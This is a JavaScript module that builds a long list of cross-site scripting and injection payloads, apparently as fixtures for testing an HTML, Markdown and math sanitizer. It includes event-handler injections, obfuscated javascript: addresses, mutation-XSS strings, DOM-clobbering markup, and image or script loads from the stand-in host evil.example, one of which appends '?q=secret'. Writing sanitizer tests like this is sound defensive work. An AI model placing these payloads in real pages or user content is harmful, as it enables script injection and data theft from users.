// Ways that are known to run something from a text, to load something from elsewhere or to change the page around it: each calls
// `fired()` or names the host `evil.example`.
// @ts-check

const CALL = "fired()";

/** Handlers of events that come by themselves, or by a click, on elements that take them. */
const HANDLERS = [
  ...[
    "img src=x onerror",
    "img src=x onload",
    "svg onload",
    "body onload",
    "body onpageshow",
    "body onfocus",
  ],
  ...[
    "video src=x onerror",
    "audio src=x onerror",
    "video autoplay onloadstart",
    "source onerror",
    "track onerror",
  ],
  ...[
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "button autofocus onfocus",
  ],
  ...[
    "a href=# onclick",
    "a tabindex=0 autofocus onfocus",
    "div onmouseover",
    "div onpointerenter",
    "p contenteditable onbeforeinput",
  ],
  ...[
    "details open ontoggle",
    "dialog open onclose",
    "marquee onstart",
    "marquee loop=1 width=0 onfinish",
    "object onerror",
  ],
  ...[
    "iframe onload",
    "iframe src=x onload",
    "embed onload",
    "frameset onload",
    "link rel=stylesheet href=x onerror",
  ],
  ...[
    "style onload",
    "script src=x onerror",
    "form oninput",
    "x onclick",
    "custom-x onfocus autofocus tabindex=1",
  ],
  ...[
    "svg><animate onbegin",
    "svg><set onbegin",
    "svg><animate attributeName=x dur=1s onend",
    "math><mi onclick",
    "xss onanimationstart style=animation-name:x",
  ],
].map((head) => `<${head}=${CALL}>`);

/** Addresses that run something when they are followed or loaded. */
const ADDRESSES = [
  ...[
    "javascript:",
    "JaVaScRiPt:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "&#106;avascript:",
    "&#x6A;avascript:",
  ],
  ...[
    "java&#10;script:",
    "java&#9;script:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "&#1;javascript:",
    "&#32;javascript:",
    "\\javascript:",
  ],
  ...[
    "javascript\\:",
    "%6Aavascript:",
    "jav\u00adascript:",
    "\u0001javascript:",
    "javascript://%0a",
    "javascript:/**/",
    "vbscript:",
    "livescript:",
  ],
  ...[
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD4",
    "data:application/xhtml+xml,",
    "data:image/svg+xml,<svg onload=",
    "feed:javascript:",
  ],
  ...[
    "view-source:javascript:",
    "jar:javascript:",
    "mhtml:javascript:",
    "blob:javascript:",
    "filesystem:javascript:",
    "file:///",
    "about:blank#",
    "intent:",
  ],
].map((scheme) => `${scheme}${CALL}`);

const PLACES = [
  ...[
    "<script>fired()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>fired()</script>",
    "<<script>fired()//<</script>",
  ],
  ...[
    "<scr<script>ipt>fired()</scr</script>ipt>",
    "<script>fired()",
    "</script><script>fired()</script>",
    "<svg><script>fired()</script></svg>",
  ],
  ...[
    "<svg><script href=//evil.example/x.js />",
    "<svg><a xlink:href=javascript:fired()><text y=9>x</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#x>",
  ],
  ...[
    "<svg><foreignObject><iframe srcdoc='<script>parent.fired()</script>'>",
    "<svg><image href=//evil.example/x.png>",
    "<math href=javascript:fired()>x</math>",
  ],
  ...[
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=fired()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=fired()>",
  ],
  ...[
    "<noscript><p title='</noscript><img src=x onerror=fired()>'>",
    "<!--><img src=x onerror=fired()>-->",
    "<!-- --!><img src=x onerror=fired()>-->",
    "<![CDATA[<img src=x onerror=fired()>]]>",
  ],
  ...[
    "<?xml version='1.0'?><img src=x onerror=fired()>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=fired()>'>]>&y;",
    "<title><img src=x onerror=fired()></title>",
  ],
  ...[
    "<iframe src=javascript:fired()></iframe>",
    "<iframe srcdoc='<script>parent.fired()</script>'>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
  ],
  ...[
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=dns-prefetch href=//evil.example>",
  ],
  ...[
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    "<div style='background:url(//evil.example/x.png)'>",
    "<p style='position:fixed;inset:0;background:red'>x",
  ],
  ...[
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x><button>go</button></form>",
    "<button formaction=javascript:fired()>x</button>",
  ],
  ...[
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<video poster=//evil.example/x.png>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<input type=image src=//evil.example/x.png>",
  ],
  ...[
    "<body background=//evil.example/x.png>",
    "<table background=//evil.example/x.png>",
    "<img ping=//evil.example src=x>",
    "<a ping=//evil.example href=#>x</a>",
    "<portal src=//evil.example>",
  ],
  ...[
    "<template shadowrootmode=open><script>fired()</script></template>",
    "<slot onslotchange=fired()>x</slot>",
    "<oneloop-chat></oneloop-chat>",
    "<p is=x-fired slot=composer part=x id=location name=cookie>x</p>",
  ],
  ...[
    "<form id=document><input name=cookie></form>",
    "<a id=firedCount href=//evil.example>x</a>",
    "<img name=getElementById>",
  ],
  ...[
    "![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "![](http://evil.example/x.png)",
    "[![x](//evil.example/x.png)](//evil.example)",
  ],
  ...[
    "![x](\\\\evil.example/x.png)",
    "![x](/\\evil.example/x.png)",
    "![x](https:evil.example/x.png)",
    "![x](&#104;ttps://evil.example/x.png)",
    "![x](ftp://evil.example/x.png)",
  ],
  ...[
    '[x](https://a.example "onmouseover=fired() x=")',
    '[x](https://a.example" onmouseover="fired())',
    "![x](x 'onerror=fired()')",
    '![x" onerror="fired()](x)',
    '<https://a.example/"onmouseover="fired()>',
  ],
  ...[
    "<javascript:fired()>",
    "<data:text/html,fired()>",
    "www.a.example/<script>fired()</script>",
    'http://a.example/"onmouseover="fired()',
    "[x][y]\n\n[y]: javascript:fired()",
    "[x]: javascript:fired()\n\n[x]",
  ],
  ...[
    '```"><img/src=x/onerror=fired()>\ncode\n```',
    "```<script>fired()</script>\n<script>fired()</script>\n```",
    "~~~html\n<img src=x onerror=fired()>\n~~~",
    "```__proto__\nx\n```",
    "```constructor\nx\n```",
  ],
  ...[
    "`<img src=x onerror=fired()>`",
    "| <img src=x onerror=fired()> |\n|---|\n| [x](javascript:fired()) |",
    "- [x] <img src=x onerror=fired()>",
    "# <img src=x onerror=fired()>",
    "> <img src=x onerror=fired()>",
  ],
  ...[
    "> [!NOTE]<img src=x onerror=fired()>",
    "> [!NOTE]\n> <img src=x onerror=fired()>",
    "> [!<script>fired()</script>]",
    "[^1]\n\n[^1]: <img src=x onerror=fired()>",
    "[^<script>fired()</script>]",
    "[^__proto__]\n\n[^__proto__]: x",
  ],
  ...[
    "$\\href{javascript:fired()}{x}$",
    "$\\url{javascript:fired()}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\htmlClass{x}{y}$",
    "$\\htmlStyle{position:fixed}{y}$",
    "$\\htmlData{x=fired()}{y}$",
    "$\\htmlId{location}{y}$",
  ],
  ...[
    "\\(\\text{<img src=x onerror=fired()>}\\)",
    "$$\n\\color{red;background:url(//evil.example/x.png)}{x}\n$$",
    "$\\colorbox{url(//evil.example)}{x}$",
    "$\\fcolorbox{red}{blue}{x}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\rule{9999999em}{9999999em}$",
  ],
  ...[
    "<oneloop-formula:0>",
    "<oneloop-formula:0> \\(\\href{javascript:fired()}{x}\\)",
    "\u202e<script>fired()</script>",
    "<scr\0ipt>fired()</scr\0ipt>",
    "\u2028<script>fired()</script>",
    "＜script＞fired()＜/script＞",
    "+ADw-script+AD4-fired()+ADw-/script+AD4-",
  ],
  ...[
    "${fired()} {{fired()}} {{constructor.constructor('fired()')()}} <%= fired() %> #{fired()}",
    "[x](https://a.example/${fired()})",
    "<a href=javascript:fired()>x</a>",
    "<a href='java\nscript:fired()'>x</a>",
  ],
];

export const ATTACKS = [
  ...HANDLERS,
  ...PLACES,
  ...ADDRESSES.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `[x][1]\n\n[1]: <${address}>`,
    `<a href="${address}">x</a>`,
  ]),
];
